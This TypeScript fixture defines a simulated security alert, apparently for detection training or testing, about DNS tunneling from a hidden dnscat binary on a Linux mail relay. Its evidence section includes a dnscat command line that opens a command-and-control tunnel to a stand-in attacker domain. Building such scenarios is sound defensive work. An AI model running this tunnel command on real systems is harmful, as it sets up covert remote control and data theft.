import type { Story } from "./story.ts";

/** A script that speaks to its owner in names that nobody would type. */
export const DNS_TUNNEL: Story = {
  name: "Command and control over DNS on one Linux server",
  alerts: [
    {
      title: "Possible DNS tunneling",
      description: "9,400 names under one domain were asked for within an hour, each only once.",
      severity: "Medium",
      category: "CommandAndControl",
      source: "WindowsDefenderAtp",
      at: 0,
      mitre: ["T1071.004", "T1572"],
      devices: [{ name: "mail-relay", roles: ["PrimaryDevice"] }],
      evidence: [
        {
          kind: "process",
          pid: 30_411,
          parent: 1,
          parentImage: "/usr/lib/systemd/systemd",
          start: -58,
          image: "/opt/.x/dnscat",
          account: "postfix",
          line: "/opt/.x/dnscat --dns domain=t.q7.bad.example --secret=8fe1",
          verdict: "malicious",
          remediation: "active",
        },
        { kind: "file", path: "/opt/.x/dnscat", size: 316_224, verdict: "malicious", remediation: "active" },
        {
          kind: "other",
          type: "dns",
          verdict: "suspicious",
          facts: {
            domainName: "b6e1f0.t.q7.bad.example",
            dnsServerIp: { ipAddress: "10.20.0.10" },
            hostIpAddress: { ipAddress: "10.20.3.25" },
            ipAddresses: [],
          },
        },
        { kind: "ip", address: "203.0.113.200", country: "BG", verdict: "malicious" },
        { kind: "user", account: "postfix", domain: "mail-relay" },
      ],
    },
  ],
};
